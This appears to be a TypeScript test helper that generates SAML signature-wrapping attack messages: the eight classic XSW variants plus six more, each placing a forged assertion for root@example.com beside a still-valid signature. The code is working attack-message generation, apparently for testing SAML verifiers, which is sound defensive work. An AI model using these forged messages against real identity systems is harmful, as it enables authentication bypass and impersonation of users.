/** Cuts of a signed response, for the eight classic ways of wrapping a signature (Somorovsky et al., 2012). */
const part = (xml: string, name: string): string =>
  new RegExp(`<(\\w+:)?${name}[ >][\\s\\S]*</(\\w+:)?${name}>`).exec(xml)?.[0] ?? '';

const withoutSignature = (xml: string): string => xml.replace(part(xml, 'Signature'), '');
/** The forged twin: other id, other person, no signature. */
const forged = (xml: string): string =>
  withoutSignature(xml)
    .replaceAll('ada@example.com', 'root@example.com')
    .replace(/ ID="[^"]*"/, ' ID="_evil"');
const before = (xml: string, end: string, more: string): string => {
  const at = xml.lastIndexOf(end);
  return xml.slice(0, at) + more + xml.slice(at);
};

/**
 * A signed assertion within a response, and a signed response, as wrapped messages by name.
 * In each the signature is still good for what it covers, and a forged assertion stands where a careless reader looks.
 */
export function wrapped(signedAssertion: string, signedWhole: string): [string, string][] {
  const assertion = part(signedAssertion, 'Assertion');
  const signature = part(assertion, 'Signature');
  const bare = withoutSignature(assertion);
  const evil = forged(assertion);
  const replaceAssertion = (by: string): string => signedAssertion.replace(assertion, () => by);
  const wholeSignature = part(signedWhole.replace(part(signedWhole, 'Assertion'), ''), 'Signature');
  const wholeBare = signedWhole.replace(wholeSignature, '');
  const evilWhole = forged(wholeBare);
  const openEvil = (more: string): string => evil.replace(/(<saml:Assertion[^>]*>)/, (open) => open + more);
  return [
    [
      'XSW1',
      before(
        evilWhole,
        '</samlp:Response>',
        wholeSignature.replace('</Signature>', `<Object>${wholeBare}</Object></Signature>`),
      ),
    ],
    ['XSW2', before(evilWhole, '</samlp:Response>', wholeBare + wholeSignature)],
    ['XSW3', replaceAssertion(evil + assertion)],
    ['XSW4', replaceAssertion(before(evil, '</saml:Assertion>', assertion))],
    ['XSW5', replaceAssertion(before(evil, '</saml:Assertion>', signature) + bare)],
    [
      'XSW6',
      replaceAssertion(
        before(evil, '</saml:Assertion>', signature.replace('</Signature>', `<Object>${bare}</Object></Signature>`)),
      ),
    ],
    ['XSW7', replaceAssertion(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`)],
    ['XSW8', replaceAssertion(openEvil(signature.replace('</Signature>', `<Object>${bare}</Object></Signature>`)))],
    [
      'twin with the same id',
      replaceAssertion(evil.replace('_evil', /ID="([^"]*)"/.exec(assertion)?.[1] ?? '') + assertion),
    ],
    [
      'twin in Extensions of a signed response',
      signedWhole.replace('<samlp:Status>', () => `<samlp:Extensions>${evil}</samlp:Extensions><samlp:Status>`),
    ],
    [
      'signature moved to the response',
      replaceAssertion(evil).replace('<samlp:Status>', () => `${signature}<samlp:Status>`),
    ],
    [
      'signed assertion in Advice',
      replaceAssertion(before(evil, '</saml:Assertion>', `<saml:Advice>${assertion}</saml:Advice>`)),
    ],
    ['signature of the other within', replaceAssertion(openEvil(signature))],
    ['whole response in a new one', before(evilWhole, '</samlp:Response>', signedWhole)],
  ];
}
